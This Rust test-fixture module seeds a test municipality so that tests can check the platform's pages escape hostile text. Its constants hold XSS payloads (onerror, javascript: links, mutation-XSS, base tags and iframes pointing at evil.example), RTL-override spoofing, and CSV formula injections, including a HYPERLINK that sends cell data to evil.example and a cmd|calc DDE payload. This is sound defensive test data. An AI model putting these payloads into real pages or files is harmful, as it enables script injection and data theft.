//! Hostile text stored through the real forms, for the tests that check every page shows it as
//! text: breakers for the body, attributes, `<title>`, `<textarea>`, `<style>` and `<script>`,
//! Markdown links to `javascript:`, mutation-XSS shapes, a lone `<`, entities that must not be
//! decoded twice, right-to-left overrides and long text.
//!
//! `store` builds a small municipality (Proefstad) whose every text field holds such text, by
//! calling the server functions through the router exactly as a browser would, and returns the
//! pages that show it and who may see them. The integration tests (`server/tests`) parse those
//! pages; `samenspraak seed-hostile` stores the same corpus for the browser tests in Chromium.
//! Every injected element or attribute carries the marker `xss`, so a checker can tell it from
//! the page's own markup.

use crate::seed;
use app::domain::roles::Role;
use app::domain::tenancy::{HouseStyle, Slug};
use app::server::{accounts, tenancy};
use axum::body::Body;
use axum::Router;
use http::{header, Request, StatusCode};
use sea_orm::DatabaseConnection;
use serde::Serialize;
use tower::ServiceExt;

/// The municipality the corpus lives in.
pub const SLUG: &str = "proefstad";

/// For fields of up to 120 characters (titles, names).
pub const SHORT: &str = "Plein \"'></title></textarea></style></script><b data-xss=t>&amp;<xss-probe data-xss> a < b";

/// For fields of up to 500 characters.
pub const MEDIUM: &str = concat!(
    "Plein \"'></title></textarea></style></script><b data-xss=m>&amp;<xss-probe data-xss> a < b ",
    "<img src=x onerror=alert(1) data-xss=img><meta http-equiv=refresh content=\"0;url=http://evil.example/\" data-xss=meta>",
    " \"><svg onload=alert(1) data-xss=svg> ' onmouseover='alert(1)' data-xss='q \u{202E}cod.exe \u{0645}\u{0631}\u{062D}\u{0628}\u{0627}"
);

/// For long text (bodies, comments, reasons): every breaker, Markdown links, mutation-XSS shapes.
pub const LONG: &str = concat!(
    "Plein \"'></title></textarea></style></script></noscript><b data-xss=l>vet</b> &amp;lt;b data-xss=entity&amp;gt; a < b & c > d\n\n",
    "<img src=x onerror=alert(1) data-xss=img> <meta http-equiv=\"refresh\" content=\"0;url=http://evil.example/\" data-xss=meta>\n\n",
    "\"><svg onload=alert(1) data-xss=svg> ' onmouseover='alert(1)' data-xss='quote\n\n",
    "[klik hier](javascript:alert(1)) ![plaatje](javascript:alert(2)) <a href=\"javascript:alert(3)\" data-xss=a>link</a> ",
    "[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)\n\n",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(4) data-xss=mxss1>\"></noscript>\n\n",
    "<svg><style><img src=x onerror=alert(5) data-xss=mxss2></style></svg> ",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(6) data-xss=mxss3></style></mglyph></table></mtext></math>\n\n",
    "<style>body{display:none}</style><script>alert(7)</script><iframe src=\"http://evil.example/\" data-xss=iframe></iframe>\n\n",
    "<form action=\"http://evil.example/\" data-xss=form><button data-xss=button>Verstuur</button></form> ",
    "<base href=\"http://evil.example/\" data-xss=base> <xss-probe data-xss>probe</xss-probe> {{7*7}} ${7*7} <!-- comment -->\n\n",
    "\u{202E}cod.exe \u{0645}\u{0631}\u{062D}\u{0628}\u{0627} \u{05E9}\u{05DC}\u{05D5}\u{05DD} <",
);

/// Text a spreadsheet would run as a formula when it opens a CSV download.
pub const FORMULAS: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik voor meer\")",
    "+31 6 12345678 bel me",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "  =1+1",
];

/// A display name: names refuse `<` and `>`, so this one tries the other characters that matter.
pub const DISPLAY_NAME: &str = "Sam \"O'Neil\" &amp; Ko";

/// One page of the corpus and the account that reads it (None: anyone).
#[derive(Debug, Clone, Serialize)]
pub struct Visit {
    pub path: String,
    pub account: Option<String>,
}

/// What `store` made: the pages to check and the accounts (e-mail, password) to read them with.
#[derive(Debug, Clone, Serialize)]
pub struct Corpus {
    pub visits: Vec<Visit>,
    pub accounts: Vec<(String, String)>,
}

/// Calls server functions through a router as the hydrated front end does.
struct Client<'a> {
    router: &'a Router,
    origin: String,
}

struct Answer {
    status: StatusCode,
    body: String,
    cookie: Option<String>,
}

impl Answer {
    fn json(&self) -> Result<serde_json::Value, String> {
        serde_json::from_str(&self.body).map_err(|e| format!("not JSON ({e}): {}", self.body))
    }

    fn id(&self) -> String {
        self.body.trim().to_owned()
    }
}

fn encode(form: &[(&str, &str)]) -> String {
    form_urlencoded::Serializer::new(String::new()).extend_pairs(form).finish()
}

impl Client<'_> {
    async fn call(&self, function: &str, form: &[(&str, &str)], cookie: Option<&str>) -> Result<Answer, String> {
        let mut request = Request::post(format!("/api/{function}"))
            .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
            .header(header::ACCEPT, "application/json")
            .header(header::ORIGIN, &self.origin);
        if let Some(cookie) = cookie {
            request = request.header(header::COOKIE, cookie);
        }
        let request = request.body(Body::from(encode(form))).map_err(|e| e.to_string())?;
        let response = self.router.clone().oneshot(request).await.map_err(|e| e.to_string())?;
        let status = response.status();
        let cookie = response
            .headers()
            .get_all(header::SET_COOKIE)
            .iter()
            .filter_map(|v| v.to_str().ok())
            .find(|c| crate::security::is_session_cookie(c))
            .map(|c| c.split(';').next().unwrap_or_default().to_owned());
        let bytes = axum::body::to_bytes(response.into_body(), 16 * 1024 * 1024).await.map_err(|e| e.to_string())?;
        Ok(Answer { status, body: String::from_utf8_lossy(&bytes).into_owned(), cookie })
    }

    /// A call that must succeed.
    /// Calls as the page's form does, with a fresh submission token unless the form has one.
    async fn ok(&self, function: &str, form: &[(&str, &str)], cookie: &str) -> Result<Answer, String> {
        let token;
        let mut form = form.to_vec();
        if !form.iter().any(|(name, _)| *name == "submission_token") {
            let answer = self.call("new_submission_token", &[], Some(cookie)).await?;
            token = answer.json()?.as_str().unwrap_or_default().to_owned();
            form.push(("submission_token", &token));
        }
        let answer = self.call(function, &form, Some(cookie)).await?;
        if answer.status != StatusCode::OK {
            return Err(format!("{function} answered {}: {}", answer.status, answer.body));
        }
        Ok(answer)
    }

    /// A consultation in the first phase of `trajectory`, with one section.
    async fn consultation(&self, trajectory: &str, intro: &str, lead: &str) -> Result<String, String> {
        let form = [
            ("municipality", SLUG),
            ("trajectory", trajectory),
            ("title", SHORT),
            ("intro", intro),
            ("phase", "0"),
            ("section_title[0]", SHORT),
            ("section_body[0]", LONG),
        ];
        Ok(self.ok("create_consultation", &form, lead).await?.id())
    }

    /// A comment (a reply when `parent` is not empty) with a fresh submission token.
    async fn comment(&self, consultation: &str, body: &str, parent: &str, cookie: &str) -> Result<String, String> {
        let m = ("municipality", SLUG);
        let view = self.ok("get_consultation", &[m, ("id", consultation)], cookie).await?.json()?;
        let token = view["submission_token"].as_str().unwrap_or_default();
        let form = [m, ("consultation", consultation), ("submission_token", token), ("body", body), ("parent", parent)];
        Ok(self.ok("post_comment", &form, cookie).await?.id())
    }

    async fn log_in(&self, email: &str, password: &str) -> Result<String, String> {
        let answer = self.call("log_in", &[("email", email), ("password", password), ("next", "")], None).await?;
        answer
            .cookie
            .filter(|_| answer.status == StatusCode::OK)
            .ok_or_else(|| format!("log in {email}: {}", answer.body))
    }
}

fn as_refs(form: &[(String, String)]) -> Vec<(&str, &str)> {
    form.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect()
}

fn day(offset: i64) -> String {
    (app::server::clock::today() + chrono::Duration::days(offset)).format("%Y-%m-%d").to_string()
}

/// Stores the corpus through `router` (whose state uses `db`) and returns the pages to check.
pub async fn store(router: &Router, db: &DatabaseConnection, origin: &str) -> Result<Corpus, String> {
    let client = Client { router, origin: origin.to_owned() };
    let accounts = ground(db).await?;
    let email = |what: &str| format!("{what}@{SLUG}.example");
    let password =
        |what: &str| accounts.iter().find(|(e, _)| *e == email(what)).map(|(_, p)| p.clone()).unwrap_or_default();
    let admin = client.log_in(&email("beheerder"), &password("beheerder")).await?;
    let lead = client.log_in(&email("projectleider"), &password("projectleider")).await?;
    let desk = client.log_in(&email("loket"), &password("loket")).await?;
    let resident = client.log_in(&email("inwoner"), &password("inwoner")).await?;
    let m = ("municipality", SLUG);

    // The municipality's own texts.
    client.ok("save_house_rules", &[m, ("house_rules", LONG)], &admin).await?;
    let areas = client.call("list_areas", &[], None).await?.json()?;
    let area = areas
        .as_array()
        .into_iter()
        .flatten()
        .flat_map(|m| m["areas"].as_array().cloned().unwrap_or_default())
        .filter_map(|a| a["id"].as_i64())
        .max()
        .ok_or("no area")?
        .to_string();

    // A trajectory with every text of its own and of its rules of play.
    let trajectory_form = |ends_on: String| {
        vec![
            ("title".to_owned(), SHORT.to_owned()),
            ("summary".to_owned(), MEDIUM.to_owned()),
            ("body".to_owned(), LONG.to_owned()),
            ("contact_name".to_owned(), SHORT.to_owned()),
            ("contact_email".to_owned(), "plein@proefstad.example".to_owned()),
            ("areas[]".to_owned(), area.clone()),
            ("phase_name[0]".to_owned(), SHORT.to_owned()),
            ("phase_starts_on[0]".to_owned(), "2025-01-06".to_owned()),
            ("phase_ends_on[0]".to_owned(), ends_on),
        ]
    };
    let owned = trajectory_form("2099-12-31".to_owned());
    let mut form = as_refs(&owned);
    form.insert(0, m);
    let trajectory = client.ok("create_trajectory", &form, &lead).await?.id();
    let t = ("id", trajectory.as_str());
    let (decision_date, report_date) = (day(30), day(60));
    let card = [
        m,
        t,
        ("level", "meedenken"),
        ("municipality_role", LONG),
        ("open_for_input", LONG),
        ("fixed_what[0]", SHORT),
        ("fixed_why[0]", LONG),
        ("decision_maker", SHORT),
        ("decision_date", decision_date.as_str()),
        ("weighing", LONG),
        ("eligibility", "everyone"),
        ("report_date", report_date.as_str()),
        ("personal_data", LONG),
        ("retention_months", "24"),
    ];
    client.ok("save_rules", &card, &lead).await?;
    client.ok("publish_trajectory", &[m, t], &lead).await?;
    let tr = ("trajectory", trajectory.as_str());

    // Its activities: a consultation, a poll with an open question, an ideas activity.
    let consultation = client.consultation(&trajectory, LONG, &lead).await?;
    let (opens, closes) = (day(-1), day(30));
    let options = format!("{SHORT}\nGewoon\n{}", FORMULAS[0]);
    let poll = client
        .ok(
            "create_poll",
            &[
                m,
                tr,
                ("title", SHORT),
                ("intro", LONG),
                ("phase", "0"),
                ("opens_on", &opens),
                ("opens_time", "00:00"),
                ("closes_on", &closes),
                ("closes_time", "17:00"),
                ("results", "live"),
                ("question_prompt[0]", MEDIUM),
                ("question_kind[0]", "single"),
                ("question_options[0]", &options),
                ("question_max[0]", ""),
                ("question_required[]", "0"),
                ("question_prompt[1]", SHORT),
                ("question_kind[1]", "open"),
                ("question_options[1]", ""),
                ("question_max[1]", ""),
            ],
            &lead,
        )
        .await?
        .id();
    let ideas = client
        .ok("create_ideas_activity", &[m, tr, ("title", SHORT), ("intro", LONG), ("phase", "0")], &lead)
        .await?
        .id();
    client
        .ok(
            "save_panel",
            &[
                m,
                ("name", SHORT),
                ("description", LONG),
                ("min_age", "12"),
                ("max_age", "23"),
                ("term_starts_on", "2026-01-01"),
                ("term_ends_on", "2099-12-31"),
            ],
            &admin,
        )
        .await?;

    // A resident comments, replies, votes with an open answer, brings in an idea and an
    // initiative; staff enter a phone call and paper votes, message the initiator and keep a note.
    let c = ("consultation", consultation.as_str());
    let token = |view: serde_json::Value| view["submission_token"].as_str().unwrap_or_default().to_owned();
    let comment = client.comment(&consultation, LONG, "", &resident).await?;
    client.comment(&consultation, MEDIUM, &comment, &resident).await?;
    let offline_token = token(client.ok("get_offline_entry", &[m, c], &lead).await?.json()?);
    client
        .ok(
            "enter_offline_input",
            &[
                m,
                c,
                ("submission_token", &offline_token),
                ("channel", "phone"),
                ("received_on", &day(0)),
                ("name", SHORT),
                ("body", LONG),
            ],
            &lead,
        )
        .await?;
    let poll_view = client.ok("get_poll", &[m, ("id", &poll)], &resident).await?.json()?;
    let question = |i: usize| poll_view["questions"][i]["id"].as_i64().unwrap_or_default().to_string();
    let option = poll_view["questions"][0]["options"][0]["id"].as_i64().unwrap_or_default().to_string();
    let (choice, open) = (format!("choice[{}]", question(0)), format!("open[{}]", question(1)));
    let vote_token = token(poll_view.clone());
    client
        .ok(
            "cast_vote",
            &[m, ("poll", &poll), ("submission_token", &vote_token), (&choice, &option), (&open, LONG)],
            &resident,
        )
        .await?;
    // Staff count two batches of paper votes and withdraw the second, with a reason.
    let count = format!("count[{option}]");
    for _ in 0..2 {
        let paper =
            [m, ("poll", poll.as_str()), ("channel", "meeting"), ("description", SHORT), ("counted_on", &day(0))];
        let mut paper = paper.to_vec();
        paper.push((&count, "3"));
        client.ok("enter_paper_votes", &paper, &lead).await?;
    }
    let batches = client.ok("list_paper_votes", &[m, ("poll", &poll)], &lead).await?.json()?;
    let batch = batches[1]["id"].as_i64().unwrap_or_default().to_string();
    let reason = format!("reason[{batch}]");
    client.ok("withdraw_paper_votes", &[m, ("poll", &poll), ("batch", &batch), (&reason, MEDIUM)], &lead).await?;
    let form_token = |answer: Answer| -> Result<String, String> { Ok(token(answer.json()?)) };
    let initiative = |token: String, activity: String| {
        vec![
            ("submission_token".to_owned(), token),
            ("kind".to_owned(), "initiative".to_owned()),
            ("title".to_owned(), SHORT.to_owned()),
            ("description".to_owned(), LONG.to_owned()),
            ("area".to_owned(), area.clone()),
            ("support[]".to_owned(), "advice".to_owned()),
            ("public".to_owned(), "on".to_owned()),
            ("activity".to_owned(), activity),
        ]
    };
    let owned = initiative(form_token(client.ok("get_initiative_form", &[m], &resident).await?)?, String::new());
    let mut form = as_refs(&owned);
    form.insert(0, m);
    let case = client.ok("submit_initiative", &form, &resident).await?.id();
    let owned = initiative(form_token(client.ok("get_initiative_form", &[m], &resident).await?)?, ideas.clone());
    let mut form = as_refs(&owned);
    form.insert(0, m);
    client.ok("submit_initiative", &form, &resident).await?;
    let case_view = client.ok("get_desk_case", &[m, ("id", &case)], &desk).await?.json()?;
    client
        .ok(
            "message_initiator",
            &[m, ("id", &case), ("submission_token", &token(case_view["case"].clone())), ("body", LONG), ("then", "")],
            &desk,
        )
        .await?;
    client.ok("add_desk_note", &[m, ("id", &case), ("note", LONG)], &desk).await?;
    let mine = client.ok("get_my_case", &[("id", &case)], &resident).await?.json()?;
    client
        .ok("reply_to_desk", &[("case", &case), ("submission_token", &token(mine)), ("body", LONG)], &resident)
        .await?;

    // A second trajectory, closed, answered and reported, so the report and the answering
    // screens show the texts too.
    let owned = trajectory_form("2099-12-31".to_owned());
    let mut form = as_refs(&owned);
    form.insert(0, m);
    let closed = client.ok("create_trajectory", &form, &lead).await?.id();
    let mut card = card.to_vec();
    card[1] = ("id", closed.as_str());
    client.ok("save_rules", &card, &lead).await?;
    client.ok("publish_trajectory", &[m, ("id", &closed)], &lead).await?;
    let closed_consultation = client.consultation(&closed, "", &lead).await?;
    for body in std::iter::once(LONG).chain(FORMULAS.iter().copied()) {
        client.comment(&closed_consultation, body, "", &resident).await?;
    }
    let owned = trajectory_form(day(-1));
    let mut form = as_refs(&owned);
    form.insert(0, ("id", closed.as_str()));
    form.insert(0, m);
    client.ok("update_trajectory", &form, &lead).await?;
    let answering = client.ok("get_answering", &[m, ("trajectory", &closed)], &lead).await?.json()?;
    let keys: Vec<String> = answering["rows"]
        .as_array()
        .map(|rows| rows.iter().filter_map(|r| r["key"].as_str().map(str::to_owned)).collect())
        .unwrap_or_default();
    let mut form: Vec<(&str, &str)> = keys.iter().map(|k| ("chosen[]", k.as_str())).collect();
    form.extend([
        m,
        ("trajectory", closed.as_str()),
        ("disposition", "not_adopted"),
        ("reason", LONG),
        ("group_title", SHORT),
    ]);
    client.ok("answer_inputs", &form, &lead).await?;
    let decided_on = day(-1);
    client
        .ok(
            "publish_report",
            &[m, ("trajectory", &closed), ("decision", LONG), ("decided_by", SHORT), ("decided_on", &decided_on)],
            &lead,
        )
        .await?;
    let answer = client.ok("get_answering", &[m, ("trajectory", &closed)], &lead).await?.json()?;
    let answer_id = answer["rows"][0]["answer"]["id"].as_i64().map(|n| n.to_string()).unwrap_or_default();

    let public = |path: String| Visit { path, account: None };
    let as_who = |path: String, who: &str| Visit { path, account: Some(email(who)) };
    let p = |rest: &str| format!("/{SLUG}{rest}");
    let mut visits = vec![
        public("/".to_owned()),
        public(p("")),
        public(p("/huisregels")),
        public(p(&format!("/trajecten/{trajectory}"))),
        public(p(&format!("/raadplegingen/{consultation}"))),
        public(p(&format!("/peilingen/{poll}"))),
        public(p(&format!("/ideeen/{ideas}"))),
        public(p("/initiatieven")),
        public(p(&format!("/initiatieven/{case}"))),
        public(p(&format!("/trajecten/{closed}"))),
        public(p(&format!("/trajecten/{closed}/verslag"))),
        public(p(&format!("/trajecten/{closed}/verslag?alles=1"))),
        public(p("/raad")),
        public(p("/initiatief-indienen")),
        public(format!("/api/v1/{SLUG}/trajectories/{closed}/report")),
        as_who(p(&format!("/raadplegingen/{consultation}")), "inwoner"),
        as_who(p(&format!("/peilingen/{poll}")), "inwoner"),
        as_who("/account".to_owned(), "inwoner"),
        as_who(format!("/account/zaken/{case}"), "inwoner"),
        as_who(p("/initiatief-indienen"), "inwoner"),
        as_who(p(&format!("/trajecten/{trajectory}/bewerken")), "projectleider"),
        as_who(p(&format!("/raadplegingen/{consultation}/bewerken")), "projectleider"),
        as_who(p(&format!("/raadplegingen/{consultation}/invoeren")), "projectleider"),
        as_who(p(&format!("/peilingen/{poll}/bewerken")), "projectleider"),
        as_who(p(&format!("/peilingen/{poll}/papieren-stemmen")), "projectleider"),
        as_who(p(&format!("/trajecten/{closed}/antwoorden")), "projectleider"),
        as_who(p(&format!("/trajecten/{closed}/antwoorden/{answer_id}")), "projectleider"),
        as_who(p(&format!("/trajecten/{closed}/verslag-publiceren")), "projectleider"),
        as_who(format!("/beheer/{SLUG}"), "beheerder"),
        as_who(format!("/beheer/{SLUG}/panels"), "beheerder"),
        as_who(format!("/beheer/{SLUG}/logboek"), "beheerder"),
        as_who(format!("/beheer/{SLUG}/moderatie"), "moderator"),
        as_who(format!("/beheer/{SLUG}/loket"), "loket"),
        as_who(format!("/beheer/{SLUG}/loket/zaken/{case}"), "loket"),
    ];
    let panels = client.ok("list_panels", &[m], &admin).await?.json()?;
    if let Some(panel) = panels["panels"].as_array().and_then(|p| p.first()).and_then(|p| p["id"].as_i64()) {
        visits.push(as_who(format!("/beheer/{SLUG}/panels/{panel}"), "beheerder"));
    }
    Ok(Corpus { visits, accounts })
}

/// The municipality (its name is hostile too) and an account for each role, made directly: the
/// platform administrator's form is the only way to make a municipality, and accounts are not
/// what is tested here.
async fn ground(db: &DatabaseConnection) -> Result<Vec<(String, String)>, String> {
    let txn = app::server::writes::begin_write(db).await.map_err(|e| e.to_string())?;
    let slug = Slug::parse(SLUG).map_err(|e| e.to_string())?;
    let style = HouseStyle::parse("#1a5493", "#a51d2d").map_err(|e| e.to_string())?;
    let id = tenancy::create(&txn, &slug, SHORT, style, chrono::Utc::now())
        .await
        .map_err(|e| e.to_string())?
        .map_err(|p| format!("{SLUG} already exists ({p:?})"))?;
    // Areas are the platform administrator's to add; their names show in every area choice.
    let area_slug = Slug::parse("proefwijk").map_err(|e| e.to_string())?;
    tenancy::add_area(&txn, id, &area_slug, SHORT).await.map_err(|e| e.to_string())?.map_err(|p| format!("{p:?}"))?;
    let mut made = Vec::new();
    let roles = [
        ("beheerder", Some(Role::Administrator)),
        ("projectleider", Some(Role::ProjectLead)),
        ("moderator", Some(Role::Moderator)),
        ("loket", Some(Role::DeskOfficer)),
        ("inwoner", None),
    ];
    for (local, role) in roles {
        let email = format!("{local}@{SLUG}.example");
        let password = seed::random_password();
        let account = seed::new_account(&txn, &email, DISPLAY_NAME, &password, None, None).await?;
        if let Some(role) = role {
            accounts::grant_role(&txn, account, id, role, None, chrono::Utc::now()).await.map_err(|e| e.to_string())?;
        }
        made.push((email, password));
    }
    txn.commit().await.map_err(|e| e.to_string())?;
    Ok(made)
}
